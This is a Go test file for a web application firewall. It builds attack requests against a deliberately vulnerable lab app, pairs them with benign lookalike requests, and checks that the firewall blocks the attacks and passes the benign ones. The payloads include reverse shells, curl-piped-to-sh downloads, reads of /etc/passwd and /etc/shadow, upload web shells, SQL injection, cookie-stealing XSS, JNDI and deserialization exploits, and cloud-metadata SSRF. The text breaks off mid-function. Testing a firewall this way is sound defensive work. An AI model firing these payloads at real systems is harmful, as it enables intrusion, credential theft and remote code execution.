package waf

import (
	"encoding/json"
	"flag"
	"fmt"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"
)

// The captures test: requests shaped as attack tools toolCapture them against
// a deliberately vulnerable application (DVWA-style forms: a ping form, a
// file-include page, an upload form, SQL and XSS pages; and probes for
// known CVEs), with payloads other than those of the waf-dev sample, each
// beside benign twins that use the same form the way a user does. The
// payloads were written for this test from the attack classes; none is
// copied from a payload list. A WAF tuned on the sample's captures must
// block the other payloads of the same tools, and pass the same forms
// filled in by a person.
//
// A toolCapture that carries no payload (the ping form sent with "11", as one
// of waf-dev's cmdexe captures is) is the same request as its benign
// twin: it is in the benign list below, and no rule can tell them apart.

const dvwa = "http://10.0.0.5"

var capturesOut = flag.String("captures-out", "", "write the captures test's requests to this file as a JSON-lines corpus (for bench/waf -corpus)")

// toolCapture is one request of the captures test.
type toolCapture struct {
	category string
	attack   bool
	method   string
	target   string
	headers  [][2]string
	body     string
}

func (c toolCapture) corpusReq(i int) corpusReq {
	r := corpusReq{ID: fmt.Sprintf("%s-%d", c.category, i), Category: c.category, Attack: c.attack, Method: c.method, Target: c.target, Body: c.body}
	for _, h := range c.headers {
		r.Headers = append(r.Headers, struct {
			Name  string `json:"name"`
			Value string `json:"value"`
		}{h[0], h[1]})
	}
	return r
}

// form is a DVWA-style form POST: the field, then Submit, with the
// page itself as Referer.
func form(cat string, attack bool, path, field, v string) toolCapture {
	return toolCapture{cat, attack, "POST", path, [][2]string{
		{"Content-Type", "application/x-www-form-urlencoded"},
		{"Origin", dvwa}, {"Referer", dvwa + path},
	}, field + "=" + url.QueryEscape(v) + "&Submit=Submit"}
}

// get is the same form sent by GET, as the SQL, XSS and include pages
// are.
func get(cat string, attack bool, path, field, v string) toolCapture {
	return toolCapture{cat, attack, "GET", path + "?" + field + "=" + url.QueryEscape(v) + "&Submit=Submit", [][2]string{{"Referer", dvwa + path}}, ""}
}

// viaReferer is a toolCapture whose payload is only in the Referer: the tool
// recorded the page it came from, whose query string held the payload,
// and sent the form empty.
func viaReferer(cat, path, field, v string) toolCapture {
	return toolCapture{cat, true, "GET", path + "?" + field + "=&Submit=Submit", [][2]string{{"Referer", dvwa + path + "?" + field + "=" + url.QueryEscape(v) + "&Submit=Submit"}}, ""}
}

// upload is a multipart upload to the upload form.
func upload(attack bool, name, ctype, content string) toolCapture {
	const b = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
	body := "--" + b + "\r\nContent-Disposition: form-data; name=\"MAX_FILE_SIZE\"\r\n\r\n100000\r\n" +
		"--" + b + "\r\nContent-Disposition: form-data; name=\"uploaded\"; filename=\"" + name + "\"\r\nContent-Type: " + ctype + "\r\n\r\n" + content + "\r\n" +
		"--" + b + "\r\nContent-Disposition: form-data; name=\"Upload\"\r\n\r\nUpload\r\n--" + b + "--\r\n"
	return toolCapture{"upload", attack, "POST", "/vulnerabilities/upload/", [][2]string{
		{"Content-Type", "multipart/form-data; boundary=" + b}, {"Origin", dvwa}, {"Referer", dvwa + "/vulnerabilities/upload/"},
	}, body}
}

func captures() []toolCapture {
	var cs []toolCapture
	const exec, fi, sqli, blind, xss = "/vulnerabilities/exec/", "/vulnerabilities/fi/", "/vulnerabilities/sqli/", "/vulnerabilities/sqli_blind/", "/vulnerabilities/xss_r/"
	for _, p := range []string{
		"127.0.0.1; cat /etc/passwd",
		"127.0.0.1 && whoami",
		"127.0.0.1 | id",
		"127.0.0.1 || uname -a",
		"127.0.0.1`id`",
		"127.0.0.1$(whoami)",
		"127.0.0.1\nls -la /",
		";nc -e /bin/sh 10.0.0.9 4444",
		"| wget http://10.0.0.9/x.sh -O /tmp/x.sh",
		"127.0.0.1 & dir c:\\",
		"| type C:\\Windows\\win.ini",
		"127.0.0.1 & net user",
		";sleep 5",
		"|ping -n 10 127.0.0.1|",
		"x|ping -c 3 127.0.0.1|",
		"127.0.0.1;ls${IFS}-la",
		"127.0.0.1|cat</etc/passwd",
		";curl http://10.0.0.9/$(whoami)",
		"127.0.0.1 & ipconfig /all",
		"127.0.0.1; bash -i >& /dev/tcp/10.0.0.9/4444 0>&1",
		"127.0.0.1 && echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= | base64 -d > x.php",
		"1;/bin/cat /etc/shadow",
		"127.0.0.1 |  python -c 'import os;os.system(\"id\")'",
		"| whoami /all",
		"127.0.0.1 & type %WINDIR%\\win.ini",
		";${IFS}cat${IFS}/etc/passwd",
		"$(sleep 5)",
		"127.0.0.1 && dir",
		";echo vulnerable",
		"| echo $((7*7))",
		"127.0.0.1 && nslookup x.example.net",
		";/usr/bin/id",
		"127.0.0.1 | tasklist",
		"127.0.0.1 & systeminfo",
		"127.0.0.1;uname${IFS}-a",
		"127.0.0.1 && cat /etc/issue",
		"127.0.0.1|ls -al",
		"127.0.0.1 & echo %USERNAME%",
		"127.0.0.1 | findstr /s password *.txt",
		"127.0.0.1\nwhoami",
		"127.0.0.1 ; ping -c 3 10.0.0.9",
		"127.0.0.1 & timeout /t 10",
		// Markdown around a command shows no code that an attack
		// runs: a reverse shell stays one.
		"```sh\nbash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n```",
		"please run `nc -e /bin/sh 10.0.0.9 4444` on the box now",
	} {
		cs = append(cs, form("cmdexe", true, exec, "ip", p))
	}
	for _, p := range []string{"127.0.0.1", "8.8.8.8", "11", "example.com", "::1", "localhost", "192.168.1.1"} {
		cs = append(cs, form("cmdexe", false, exec, "ip", p))
	}

	for _, p := range []string{
		"../../../../etc/passwd",
		"/etc/shadow",
		"....//....//....//etc/passwd",
		"file:///etc/passwd",
		"php://filter/convert.base64-encode/resource=index.php",
		"php://filter/read=string.rot13/resource=config.php",
		"/proc/self/environ",
		"C:\\Windows\\win.ini",
		"..\\..\\..\\windows\\win.ini",
		"http://10.0.0.9/shell.txt?",
		"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
		"expect://id",
		"/var/log/apache2/access.log",
		"phar://../../hackable/uploads/x.jpg/shell.php",
		"../../../../../../etc/passwd\x00",
		"/etc/hosts",
		"../../config/config.inc.php",
		"file://c:/inetpub/wwwroot/web.config",
		"....\\/....\\/etc/passwd",
		"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"file:///c:/windows/win.ini",
		"php://filter/resource=/etc/passwd",
		"/var/www/html/config.php",
		"../../../../proc/self/cmdline",
		"/etc/issue",
		"/etc/group",
		"C:/boot.ini",
		"\\\\10.0.0.9\\share\\x.php",
		"ftp://10.0.0.9/x.txt",
		"php://input",
		"//10.0.0.9/share/x.php",
		"/WEB-INF/web.xml",
		"..\\WEB-INF\\classes\\db.properties",
	} {
		cs = append(cs, get("lfi", true, fi, "page", p))
	}
	for _, p := range []string{"include.php", "file1.php", "file2.php", "help.php", "config.php", "/config.asp", "about/index.html"} {
		cs = append(cs, get("lfi", false, fi, "page", p))
	}

	for _, u := range []struct{ name, ctype, content string }{
		{"shell.php", "application/x-php", "<?php system($_GET['cmd']); ?>"},
		{"shell.php5", "application/octet-stream", "<?php passthru($_REQUEST['c']); ?>"},
		{"shell.phtml", "text/plain", "<?php eval($_POST[1]);"},
		{"shell.pHp", "image/jpeg", "<?php echo shell_exec($_GET['e']); ?>"},
		{"x.php.jpg", "image/jpeg", "<?php system($_GET['c']); ?>"},
		{"x.jpg", "image/jpeg", "GIF89a\n<?php system($_GET['c']); ?>"},
		{"x.gif", "image/gif", "GIF89a<?=`$_GET[0]`?>"},
		{".htaccess", "text/plain", "AddType application/x-httpd-php .jpg\n"},
		{"cmd.jsp", "application/octet-stream", "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"},
		{"cmd.aspx", "application/octet-stream", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(Request[\"c\"]); %>"},
		{"x.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>"},
		{"x.html", "text/html", "<html><script>alert(document.cookie)</script></html>"},
		{"shell.phar", "application/octet-stream", "<?php __HALT_COMPILER(); system('id');"},
		{"x.asp", "image/png", "<% eval request(\"x\") %>"},
		{"cmd.png", "image/png", "<?php\r\npassthru($_GET['c']);\r\n"},
		{"x.html", "text/html", "<img src=x onerror=alert(document.domain)>"},
	} {
		cs = append(cs, upload(true, u.name, u.ctype, u.content))
	}
	for _, u := range []struct{ name, ctype, content string }{
		{"cat.png", "image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"},
		{"photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"},
		{"notes.txt", "text/plain", "Shopping list: milk, eggs, bread.\n"},
		{"report.pdf", "application/pdf", "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"},
		{"notes.html", "text/html", "<h1>Notes</h1><p>Bring <b>cake</b> &amp; <a href=\"https://example.com/menu\">the menu</a>.</p>"},
	} {
		cs = append(cs, upload(false, u.name, u.ctype, u.content))
	}

	for _, p := range []string{
		"1' or '1'='1",
		"1' or 1=1#",
		"1' union select user(),database()#",
		"1' and sleep(5)#",
		"1 and 1=2 union select 1,2",
		"1' order by 3#",
		"1' and extractvalue(1,concat(0x7e,version()))#",
		"1' and updatexml(1,concat(0x7e,(select user())),1)#",
		"-1 union select 1,group_concat(table_name) from information_schema.tables where table_schema=database()#",
		"1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
		"1' and substring(version(),1,1)='5",
		"1' and ascii(substr(database(),1,1))>97#",
		"1;waitfor delay '0:0:5'--",
		"1' || pg_sleep(5)--",
		"admin'--",
		"1' and length(database())=4#",
		"' or ''='",
		"1 or 1=1",
		"1' and (select count(*) from users)>0#",
		"' || (SELECT '')||'",
		"'; SELECT pg_sleep(10)--",
		"'; WAITFOR DELAY '0:0:10'--",
		"'||dbms_pipe.receive_message(('a'),10)||'",
		"SELECT * FROM information_schema.tables",
		"SELECT banner FROM v$version",
		"SELECT @@version",
		"' AND (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 'a' END)='a",
		"SELECT IF(1=1,(SELECT table_name FROM information_schema.tables),'a')",
		"'; exec master..xp_dirtree '//x.example.net/a'--",
		"SELECT UTL_INADDR.get_host_address('x.example.net')",
		"'; copy (SELECT '') to program 'nslookup x.example.net'--",
		"' UNION SELECT LOAD_FILE('\\\\x.example.net\\a')--",
		"1 AND 1=CAST(version() AS int)",
		"' ORDER BY 1--",
		"' UNION SELECT NULL--",
		"' UNION SELECT username || '~' || password FROM users--",
		"SELECT CASE WHEN (username='administrator' AND SUBSTR(password,1,1)='a') THEN TO_CHAR(1/0) ELSE NULL END FROM users",
		"x'||(SELECT CASE WHEN LENGTH(password)>1 THEN pg_sleep(10) ELSE pg_sleep(0) END FROM users)--",
		"SELECT table_name FROM all_tables",
		"SELECT column_name FROM information_schema.columns WHERE table_name = 'users'",
	} {
		cs = append(cs, get("sqli", true, sqli, "id", p), form("sqli", true, "/vulnerabilities/sqli/session-input.php", "id", p), viaReferer("sqli", blind, "id", p))
	}
	for _, p := range []string{"1", "2", "42", "", "John", "5 apples"} {
		cs = append(cs, get("sqli", false, sqli, "id", p), form("sqli", false, "/vulnerabilities/sqli/session-input.php", "id", p))
	}

	for _, p := range []string{
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"<svg/onload=alert(1)>",
		"<body onload=alert(1)>",
		"<iframe src=\"javascript:alert(1)\">",
		"<details open ontoggle=alert(1)>",
		"\"><script>alert(document.cookie)</script>",
		"<a href=\"javascript:alert(1)\">x</a>",
		"<input autofocus onfocus=alert(1)>",
		"top['al'+'ert'](1)",
		"window['\\x61lert'](1)",
		"eval(atob('YWxlcnQoMSk='))",
		"<script>fetch('//10.0.0.9/?c='+document.cookie)</script>",
		"javascript:alert(1)",
		"<img src=1 onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
		"[].constructor.constructor('alert(1)')()",
		"<scr<script>ipt>alert(1)</script>",
		"</script><script>alert(1)</script>",
		"<object data=javascript:alert(1)>",
		"<video><source onerror=alert(1)>",
		"frames['\\u0065val']('ale'+'rt(1)')",
		"self[/*x*/'con'+'firm'/*y*/](1)",
		"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
		"<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
		"<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationend=\"alert(1)\"></xss>",
		"<a href=\"javascript&colon;alert(1)\">x</a>",
		"<iframe srcdoc=\"&lt;img src=1 onerror=alert(1)&gt;\"></iframe>",
		"<math><a xlink:href=\"javascript:alert(1)\">click</a></math>",
		"{{constructor.constructor('alert(1)')()}}",
		"<img src=x onerror=location='javascript:alert\\x281\\x29'>",
		"alert`1`",
		"throw onerror=alert,1",
		"<svg><script href=data:,alert(1) />",
		"<script>onerror=alert;throw 1</script>",
		"<x onclick=alert(1)>click",
		"x=alert;x(1)",
		"eval('\\141lert(1)')",
		"setTimeout('ale'+'rt(1)')",
		"Function('ale'+'rt(1)')()",
		"[]['constructor']['constructor']('alert(1)')()",
		"'-alert(1)-'",
		"\\u0061lert(1)",
		"window['location']='javascript:alert(1)'",
		"top[8680439..toString(30)](1)",
		"import('//x.example.net/a.js')",
		"<input onfocus=alert(1) autofocus>",
		"<body onpageshow=alert(1)>",
		"<img src=x:x onerror=eval(atob(this.id)) id=YWxlcnQoMSk=>",
		"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
	} {
		cs = append(cs, get("xss", true, xss, "name", p), viaReferer("xss", xss, "name", p))
	}
	// A Referer cut at its length limit ends inside the payload, often
	// inside an escape: what is left must still read as the attack.
	for _, p := range []string{
		"top['\\u0061\\u006c\\u0065\\u0072\\u0074'](1)",
		"content['con'+'firm'](document.domain)",
		"'a'.constructor.prototype.charAt=[].join",
		"<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">x</a>",
		"<a href=\"javascript:alert(1)\">x</a>",
		"<input autofocus onfocus=alert(1)>",
	} {
		full := dvwa + xss + "?name=" + url.QueryEscape(p)
		for _, cut := range []int{28, 34} {
			cs = append(cs, toolCapture{"xss", true, "GET", xss + "?name=&Submit=Submit", [][2]string{{"Referer", full[:len(dvwa+xss+"?name=")+cut]}}, ""})
		}
	}
	for _, p := range []string{"Bob", "Zoë Smith", "Alice & Bob", "O'Neil", "2 < 3", "<3 you", "window['dataLayer'] is undefined", "self['cache' + key] returns nothing", "obj.constructor.name"} {
		cs = append(cs, get("xss", false, xss, "name", p))
	}

	other := func(method, target, body string, headers ...[2]string) {
		cs = append(cs, toolCapture{"other", true, method, target, headers, body})
	}
	other("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", "")
	other("GET", "/", "", [2]string{"X-Api-Version", "${jndi:ldap://10.0.0.9:1389/a}"})
	other("GET", "/cgi-bin/status", "", [2]string{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"})
	other("POST", "/script", "script="+url.QueryEscape(`println "id".execute().text`), [2]string{"Content-Type", "application/x-www-form-urlencoded"})
	other("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "")
	// Syntax across path segments, and escaped payloads in a custom
	// header: read as a catch-all route and an unescaping application
	// read them.
	other("GET", "/run/%24%28/usr/bin/whoami%29/status", "")
	other("GET", "/items/%20x'%20/%20%2B2%20like%20'1/edit", "")
	other("GET", "/api/items", "", [2]string{"X-Filter", "....%2F%2F....%2F%2F....%2F%2Fwindows%2Fwin.ini"})
	other("GET", "/api/items", "", [2]string{"X-Filter", "7%0Cunion%0Cselect%0C1%2C2%2C3%2C4%0C--%0C"})
	other("GET", "/api/items", "", [2]string{"X-Filter", "%253Csvg%252F%252Fonload%253Dalert%25281%2529%253E"})
	other("GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", "")
	other("GET", "/fetch?url="+url.QueryEscape("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), "")
	other("POST", "/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]><r>&x;</r>`, [2]string{"Content-Type", "application/xml"})
	other("POST", "/api/profile", `{"username":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`, [2]string{"Content-Type", "application/json"})
	other("POST", "/functionRouter", "x", [2]string{"spring.cloud.function.routing-expression", `T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwn")`})
	other("GET", "/page?name="+url.QueryEscape("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"), "")
	other("GET", "/php/connector.minimal.php?cmd=archive&name="+url.QueryEscape("-TvTT=curl 10.0.0.9|sh # a.zip")+"&target=l1_Lw&type=application%2Fzip", "")
	other("POST", "/user/register?element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax", "form_id=user_register_form&_drupal_ajax=1&timezone[a][#lazy_builder][]=passthru&timezone[a][#lazy_builder][][]=id", [2]string{"Content-Type", "application/x-www-form-urlencoded"})
	other("POST", "/rest/tinymce/1/macro/preview", `{"contentId":"1","macro":{"name":"widget","body":"","params":{"url":"https://www.youtube.com/watch?v=x","_template":"file:///etc/passwd"}}}`, [2]string{"Content-Type", "application/json"})
	other("POST", "/api/timelion/run", `{"sheet":[".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"id\")//')"],"time":{}}`, [2]string{"Content-Type", "application/json"})
	other("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "")
	other("GET", "/vpn/../vpns/cfg/smb.conf", "")
	other("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php system('id'); ?>", [2]string{"Content-Type", "text/plain"})
	other("POST", "/checkValid", "document="+url.QueryEscape(`global.process.mainModule.require("child_process").execSync("id")`), [2]string{"Content-Type", "application/x-www-form-urlencoded"})
	other("GET", "/solr/admin/cores?action="+url.QueryEscape("${jndi:rmi://10.0.0.9/x}"), "")
	other("GET", "/api/console/api_server?sense_version=%40%40SENSE_VERSION&apis=../../../../../../proc/self/environ", "")
	other("POST", "/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern="+url.QueryEscape("%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))"), [2]string{"Content-Type", "application/x-www-form-urlencoded"})

	other("POST", "/soap", `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % remote SYSTEM "http://10.0.0.9/x.dtd">%remote;]><d>1</d>`, [2]string{"Content-Type", "text/xml"})
	other("POST", "/api/import", `<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://10.0.0.9/oob.dtd"><foo>&e1;</foo>`, [2]string{"Content-Type", "application/xml"})
	other("POST", "/scriptText", "script="+url.QueryEscape(`def p = ['bash','-c','curl 10.0.0.9|sh'].execute(); p.waitFor()`), [2]string{"Content-Type", "application/x-www-form-urlencoded"})
	other("GET", "/account", "", [2]string{"Cookie", "JSESSIONID=1A2B3C; remember=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="})
	other("POST", "/api/order", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://10.0.0.9:1389/Basic/Command/id","autoCommit":true}`, [2]string{"Content-Type", "application/json"})
	other("POST", "/api/import", `{"item":{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}}`, [2]string{"Content-Type", "application/json"})
	other("POST", "/api/import", `<?xml version="1.0"?><order xmlns:xi="http://www.w3.org/2001/XInclude"><note><xi:include parse="text" href="http://10.0.0.9/x"/></note></order>`, [2]string{"Content-Type", "application/xml"})
	other("POST", "/api/items", `<?xml version="1.0"?><items><item id="1' union select password from users--">x</item></items>`, [2]string{"Content-Type", "application/xml"})
	other("GET", "/redirect?to=%0d%0aSet-Cookie:%20session=attacker", "")
	other("POST", "/login", `{"username":"admin","password":{"$ne":null}}`, [2]string{"Content-Type", "application/json"})
	// Cookies are form-encoded by the clients that set them, "+" for a
	// space; a header that holds a URL is parsed as one only when it
	// starts with a scheme.
	other("GET", "/account", "", [2]string{"Cookie", "session=abc; pref=%3B+nc+-e+%2Fbin%2Fsh+10.0.0.1+4444"})
	other("GET", "/account", "", [2]string{"Cookie", "lang=%26+ping+-n+10+127.0.0.1+%26"})
	other("GET", "/", "", [2]string{"X-Forwarded-Host", "$(curl http://10.0.0.9/x|sh)"})
	benign := func(method, target, body string, headers ...[2]string) {
		cs = append(cs, toolCapture{"other", false, method, target, headers, body})
	}
	other("GET", "/index.php?s=index/\\think\\Container/invokefunction&function=call_user_func&vars[0]=phpinfo&vars[1]=1", "")
	other("POST", "/index.php?s=captcha", "_method=__construct&filter[]=passthru&method=get&server[REQUEST_METHOD]=id", [2]string{"Content-Type", "application/x-www-form-urlencoded"})
	benign("GET", "/logs?filter=system&level=warn", "")
	benign("GET", "/search?q=call_user_func_array&lang=en", "")
	benign("POST", "/soap", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>`, [2]string{"Content-Type", "text/xml; charset=utf-8"})
	benign("POST", "/api/drawings", `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;" width="10" height="10"><rect width="10" height="10"/></svg>`, [2]string{"Content-Type", "application/xml"})
	benign("POST", "/feed", `<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><item><title>Select the best of 2026</title><link>https://news.example/a?x=1&amp;y=2</link></item></channel></rss>`, [2]string{"Content-Type", "text/xml"})
	benign("POST", "/api/notes", `{"text":"Call cursor.execute(query) once per batch, then commit."}`, [2]string{"Content-Type", "application/json"})
	benign("POST", "/api/events", `{"@context":"https://schema.org","@type":"Event","name":"Java 21 meetup","location":{"@type":"Place","name":"com.example office"}}`, [2]string{"Content-Type", "application/json"})
	benign("POST", "/api/errors", `{"error":{"details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"RATE_LIMIT"}]}}`, [2]string{"Content-Type", "application/json"})
	benign("POST", "/api/drawings", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><path d="M0 0 L10 10 Z" style="fill:#fff;stroke:none"/><a xlink:href="#top"><text x="1" y="2" font-family="Arial, sans-serif">Select all &amp; drop</text></a></svg>`, [2]string{"Content-Type", "application/xml"})
	benign("GET", "/account", "", [2]string{"Cookie", "JSESSIONID=1A2B3C; prefs=eyJ0aGVtZSI6ImRhcmsifQ==; token=AbrO0ABxyz"})
	benign("GET", "/docs?path=guide/deploy/web-inf-layout.html", "")
	benign("GET", "/account", "", [2]string{"Cookie", "sid=AbC+dEf%2Fg%3D%3D; q=blue+shoes+%26+socks; _ga=GA1.2.3"})
	benign("GET", "/", "", [2]string{"Referer", "https://shop.example/search?q=c%2B%2B+books&page=2"})

	// Remote and wrapped file references in a file parameter, in every
	// place an application reads one from; host-header injection and
	// URL override (remoteref.go).
	const jsonType = "application/json"
	for _, ref := range []string{`\\files.attacker.example\share\x.php`, `\\?\UNC\attacker.example\s\a.txt`, `\\attacker.example@SSL\DavWWWRoot\x.php`, "file://attacker.example/share/x", "//attacker.example/inc/shell.php", "php://filter/convert.base64-encode/resource=index.php", "phar:///tmp/uploads/avatar.jpg/x", "compress.zlib://index.php", "data:text/plain,<?php system('id');?>", "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="} {
		q := url.QueryEscape(ref)
		other("GET", "/download?file="+q, "")
		other("POST", "/api/export", `{"template":{"path":`+strconv.Quote(ref)+`}}`, [2]string{"Content-Type", jsonType})
		other("GET", "/account", "", [2]string{"Cookie", "session=abc; file=" + q})
		other("GET", "/", "", [2]string{"X-File", ref})
		other("GET", "/download/"+url.PathEscape(ref), "")
	}
	other("GET", "/view/php://filter/resource=index.php", "")
	other("GET", "/", "", [2]string{"X-Forwarded-Host", "attacker.example/reset"})
	other("GET", "/", "", [2]string{"X-Forwarded-Host", "http://attacker.example"})
	other("GET", "/", "", [2]string{"Forwarded", "for=203.0.113.9;host=attacker.example/x"})
	other("GET", "/", "", [2]string{"X-Original-URL", "/admin/users"})
	other("GET", "/public", "", [2]string{"X-Rewrite-URL", "/admin/config"})
	other("GET", "/", "", [2]string{"X-Forwarded-Prefix", "http://attacker.example/"})
	benign("GET", "/download?file=reports%2F2026%2Fq4.pdf", "")
	benign("POST", "/api/profile", `{"name":"Ana","cdn":"//cdn.example.net/img/a.png","home":"//example.org/index.php","avatar":{"src":"//cdn.example.net/u/7.png"}}`, [2]string{"Content-Type", jsonType})
	benign("POST", "/api/notes", `{"text":"the report is on \\\\fileserver\\reports, ask IT for access"}`, [2]string{"Content-Type", jsonType})
	benign("GET", "/", "", [2]string{"X-Forwarded-Host", "app.example:8443"}, [2]string{"X-Forwarded-Proto", "https"}, [2]string{"X-Forwarded-Port", "443"}, [2]string{"X-Forwarded-For", "203.0.113.7, 10.0.0.2"})
	benign("GET", "/api/items?page=2", "", [2]string{"X-Original-URL", "/api/items?page=2"}, [2]string{"X-Forwarded-Prefix", "/shop"})
	benign("GET", "/", "", [2]string{"Forwarded", `for=203.0.113.7;proto=https;host="app.example"`})

	for i := range cs {
		cs[i].category = "captures/" + cs[i].category
	}
	return cs
}

// TestCaptures holds moat to blocking every attack of the captures and
// none of their benign twins.
func TestCaptures(t *testing.T) {
	cs := captures()
	reqs := make([]corpusReq, len(cs))
	for i, c := range cs {
		reqs[i] = c.corpusReq(i)
	}
	writeCorpus(t, *capturesOut, reqs)
	w, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	s := scoreCorpus(t, w, reqs)
	for cat, n := range s.perCat {
		t.Logf("%-18s blocked %3d of %3d", cat, n[0], n[1])
	}
	byID := map[string]toolCapture{}
	for i, c := range cs {
		byID[reqs[i].ID] = c
	}
	for _, m := range s.missed {
		id := m[strings.IndexByte(m, ' ')+1:]
		c := byID[id]
		t.Errorf("attack passed: %s %s %q %q", c.method, c.target, c.body, c.headers)
	}
	for _, fp := range s.falsePos {
		f := strings.Fields(fp)
		c := byID[f[1]]
		t.Errorf("benign blocked: %s %s %q (%s)", c.method, c.target, c.body, strings.Join(f[2:], " "))
	}
	if s.refused > 0 {
		t.Errorf("%d requests refused by the HTTP server: the test's requests must parse", s.refused)
	}
}

// falsePositiveShapes are values of the kinds WAF false-positive lists
// hold (nuclei's among them): prose with shell, SQL and JavaScript words,
// file names, e-mail addresses, XML documents. They were written for this
// test after the kinds; none is copied from a list.
var falsePositiveShapes = []string{
	"fish is a friendly shell",
	"ksh and csh are older than bash",
	"wget or curl, which one do you prefer?",
	"python vs perl for quick scripts",
	"php is not dead, it powers half the web",
	"Please cat-sit for me this weekend",
	"select the best option from the list below",
	"the union of workers and management met today",
	"drop by the office at 5, then update the sheet",
	"insert coin to continue; order by phone",
	"where and when should we meet? or maybe not",
	"alert: the document is ready for review",
	"window cleaning service, onload pricing",
	"JavaScript: The Good Parts, chapter 4",
	"eval of the process took 3 days",
	"config.php",
	"/web.config",
	"settings.py and database.yml",
	"package.json",
	"I would like to request the size of the config.ini file.",
	"mary+and@example.org",
	"and =XY=Z9QF_=",
	"sleep well, see you tomorrow",
	"The system() call in C starts a shell",
	// Prose with quotes, dashes, lists and searches beside SQL and shell
	// words.
	"O'Reilly's 'best of' list -- 2nd ed.",
	"He said 'and' -- twice",
	"\"O'Neil\" OR \"ONeil\"",
	"Where's the 'or' in 'for'?",
	"1 or 2 or 3 items per order",
	"shop & go, then eat | sleep (see attached)",
	"id;name;note\n1;O'Brien;cat & dog\n2;Smith;a | b",
	"title:\"select\" author:\"o'neil\"",
	// Documents showing code: a shell script in a fenced block, commands
	// in code spans of a sentence, a saved query.
	"```bash\nset -euo pipefail\nfor d in */; do du -sh \"$d\"; done\n```\n\nDoes this look right?",
	"Before merging, please run `go vet ./...` and `rm -rf dist/` to clean up",
	"-- daily signups\nSELECT date(created_at) AS day, count(*) FROM users GROUP BY day ORDER BY day",
	"SELECT name, email FROM customers WHERE country = 'CH' AND active = 1",
	"<?xml version=\"1.0\"?><note><to>Tove</to><from>Jani</from><body>Don't forget me this weekend!</body></note>",
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?><GetCapabilities service=\"WMS\" version=\"1.3.0\" xmlns=\"http://www.opengis.net/wms\"/>",
	"<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><m:GetStockPrice xmlns:m=\"https://www.example.org/stock\"><m:StockName>T</m:StockName></m:GetStockPrice></soap:Body></soap:Envelope>",
}

// TestFalsePositiveShapes sends each of falsePositiveShapes as a query
// parameter and as a form field, as the waf-dev harness sends its
// false-positive lists, and wants every one to pass.
func TestFalsePositiveShapes(t *testing.T) {
	var reqs []corpusReq
	for i, v := range falsePositiveShapes {
		q := url.QueryEscape(v)
		reqs = append(reqs,
			toolCapture{"fp", false, "GET", "/?p=" + q, nil, ""}.corpusReq(2*i),
